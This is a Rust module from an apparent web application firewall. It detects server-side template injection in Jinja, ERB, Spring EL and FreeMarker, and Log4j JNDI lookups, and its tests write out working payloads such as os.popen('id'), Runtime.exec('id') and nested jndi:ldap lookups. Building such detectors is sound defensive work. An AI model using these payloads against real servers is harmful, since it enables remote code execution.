//! Server-side template injection and expression-language lookups.
//!
//! Template engines evaluate markers that ordinary text does not carry:
//! `{{ 7*7 }}` and Python object walks in Jinja/Twig, `<%= %>` with Ruby
//! calls in ERB, `${T(java.lang.Runtime)}` in Spring EL, `<#assign>` in
//! FreeMarker, and `${jndi:...}` lookups in Log4j. A rule fires on the
//! marker *and* something only an attacker puts inside it (arithmetic on
//! literals, dunder attributes, class loading, a JNDI scheme), so template
//! talk in prose or a code snippet with ordinary variables passes.

use regex::bytes::Regex;

use super::rules::{compile, Hit};
use super::targets::Target;

// Limitation: Smarty, Mako, Go templates and Razor have no rules yet, and
// arithmetic probes are matched only on literal numbers (`{{7*7}}`, not
// `{{a*b}}`); rules for those engines' markers would lift it.
pub struct Ssti {
    rules: Vec<(u32, u8, Regex)>,
    jndi: Regex,
}

/// Log4j lookups: `${jndi:` directly, or a lookup built from nested
/// lookups (`${${lower:j}ndi:`, `${${::-j}...`), the usual evasion.
const JNDI: &str = r"\$\{\s*(?:jndi\s*:|[^}]{0,40}?\$\{\s*(?:lower|upper|env|sys|date|main|java|ctx|bundle|base64|::-)[^}]{0,40}\})";

impl Ssti {
    pub fn new() -> Result<Ssti, regex::Error> {
        let rules = [
            // Jinja/Twig/Nunjucks/Handlebars: arithmetic on literals (the
            // universal probe), Python object walks, template globals.
            (
                7001,
                1,
                r#"\{\{\s*['"]?\d+['"]?\s*[*+/%-]\s*['"]?\d+['"]?\s*\}\}|__(?:mro|subclasses|globals|builtins)__|\{\{[^}]{0,80}?(?:__class__|\bconfig\b|\brequest\s*\.\s*application|\blipsum\b|\bcycler\b|\bjoiner\b|\bself\s*\.\s*_|_self\s*\.\s*env|\|\s*attr\s*\(|\bgetattr\b|\.\s*popen\s*\(|\bos\s*\.\s*system\b)|\{%\s*debug\s*%\}"#,
            ),
            // ERB / Ruby: an output tag running something other than a name.
            (
                7002,
                1,
                r#"<%=?\s*(?:\d+\s*[*+/-]\s*\d+|`|%x|system\b|exec\b|eval\b|file\s*\.|io\s*\.|open\s*\(|require\b|dir\s*\.|kernel\b|\w+\s*\.\s*(?:send|instance_eval|class_eval)\b)"#,
            ),
            // Java expression languages (Spring EL, OGNL, JSP EL) and
            // FreeMarker/Velocity: class access, arithmetic probes.
            (
                7003,
                1,
                r#"[$#*@]\{\s*(?:\d+\s*[*+/-]\s*\d+\s*\}|t\s*\(\s*java\.|new\s+java\.|[^}]{0,60}?(?:java\.lang\.|\.getclass\s*\(|class\.forname|getruntime\s*\(|processbuilder|\.exec\s*\())|<#assign\b|freemarker\.template\.utility|#set\s*\(\s*\$[a-z_]+\s*=|\$class\.inspect"#,
            ),
        ];
        let rules = rules
            .into_iter()
            .map(|(id, pl, re)| Ok((id, pl, compile(re)?)))
            .collect::<Result<_, regex::Error>>()?;
        Ok(Ssti {
            rules,
            jndi: compile(JNDI)?,
        })
    }

    /// Appends the template-injection rules that match `t`.
    pub fn check(&self, t: &Target, pl: u8, hits: &mut Vec<Hit>) {
        let lower = &t.value.lower;
        if !lower.contains(['{', '%', '_', '<', '#', '$']) {
            return;
        }
        self.check_jndi(t, hits);
        for (id, level, re) in &self.rules {
            if *level > pl {
                continue;
            }
            if let Some(m) = re.find(lower.as_bytes()) {
                hits.push(Hit::new(*id, range(t, m.range())));
            }
        }
    }

    /// Appends rule 7004 if `t` holds a Log4j lookup. Cheap enough to run
    /// on every header value.
    pub fn check_jndi(&self, t: &Target, hits: &mut Vec<Hit>) {
        let lower = &t.value.lower;
        if !lower.contains("${") {
            return;
        }
        if let Some(m) = self.jndi.find(lower.as_bytes()) {
            hits.push(Hit::new(7004, range(t, m.range())));
        }
    }
}

fn range(t: &Target, at: std::ops::Range<usize>) -> std::ops::Range<usize> {
    if t.value.lower.len() == t.value.text.len() {
        at
    } else {
        0..t.value.text.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::normalize::{normalize, Source};
    use crate::waf::targets::Location;

    fn ids(raw: &str) -> Vec<u32> {
        let t = Target {
            location: Location::Query,
            name: "n".into(),
            value: normalize(raw.as_bytes(), Source::Decoded),
        };
        let mut hits = Vec::new();
        Ssti::new().expect("rules compile").check(&t, 4, &mut hits);
        hits.into_iter().map(|h| h.rule).collect()
    }

    #[test]
    fn template_payloads_of_each_engine_are_found() {
        assert!(ids("{{7*7}}").contains(&7001));
        assert!(ids("{{ '7'*7 }}").contains(&7001));
        assert!(ids("{{config.__class__}}").contains(&7001));
        assert!(ids("{{ ''.__class__.__mro__[1].__subclasses__() }}").contains(&7001));
        assert!(ids("{{request.application.__globals__}}").contains(&7001));
        assert!(ids("{% import os %}{{ os.popen('id') }}").contains(&7001));
        assert!(ids("<%= 7*7 %>").contains(&7002));
        assert!(ids("<%= system('id') %>").contains(&7002));
        assert!(ids("<%= `id` %>").contains(&7002));
        assert!(ids("${7*7}").contains(&7003));
        assert!(ids("${T(java.lang.Runtime).getRuntime().exec('id')}").contains(&7003));
        assert!(ids("#{7*7}").contains(&7003));
        assert!(ids("<#assign ex=\"freemarker.template.utility.Execute\"?new()>").contains(&7003));
        assert!(ids("#set($x = 1)").contains(&7003));
    }

    #[test]
    fn log4j_lookups_and_nested_evasions_are_found() {
        assert_eq!(ids("${jndi:ldap://x/a}"), vec![7004]);
        assert!(ids("${${lower:j}ndi:ldap://x/a}").contains(&7004));
        assert!(ids("${${::-j}${::-n}di:rmi://x/a}").contains(&7004));
        assert!(ids("${ JNDI : dns://x}").contains(&7004));
    }

    #[test]
    fn template_talk_and_code_snippets_are_not_flagged() {
        for text in [
            "Use {{ user.name }} in the greeting template",
            "{{#each items}}<li>{{this}}</li>{{/each}}",
            "<%= link_to 'Home', root_path %>",
            "<%= @post.title %>",
            "echo \"${HOME}/bin\" and ${PATH:-/usr/bin}",
            "const s = `${a}-${b}`;",
            "{% if user %}Hello{% endif %}",
            "50% off {{ price }}",
            "__init__.py is where the package starts",
            "rate is 7*7 = 49 {not a template}",
        ] {
            assert!(ids(text).is_empty(), "{text}: {:?}", ids(text));
        }
    }
}
